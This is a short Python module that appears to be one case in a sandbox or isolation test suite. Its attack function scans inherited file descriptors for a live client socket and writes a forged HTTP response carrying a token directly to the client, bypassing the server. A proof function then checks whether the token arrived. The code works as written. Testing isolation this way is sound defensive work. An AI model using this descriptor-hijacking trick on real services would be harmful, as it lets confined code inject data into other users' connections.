"""Write on the client's connection, past the server."""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from workloads.attacks.scene import Given, Scene


def attack(given: Given) -> object:
    import os
    import socket

    answer = b"HTTP/1.1 200 OK\r\nContent-Length: 16\r\n\r\n" + given.token.encode()
    for number in range(3, 64):
        try:
            connection = socket.socket(fileno=os.dup(number))
        except OSError:
            continue
        try:
            if connection.family == socket.AF_INET:
                connection.getpeername()
                connection.sendall(answer)
                return f"written at descriptor {number}"
        except OSError:
            continue
        finally:
            connection.close()
    raise PermissionError("none of its descriptors is a client's connection")


def proof(scene: Scene) -> str | None:
    if scene.token.encode() in scene.replies()[0].raw:
        return "the client got bytes that the server has never seen"
    return None
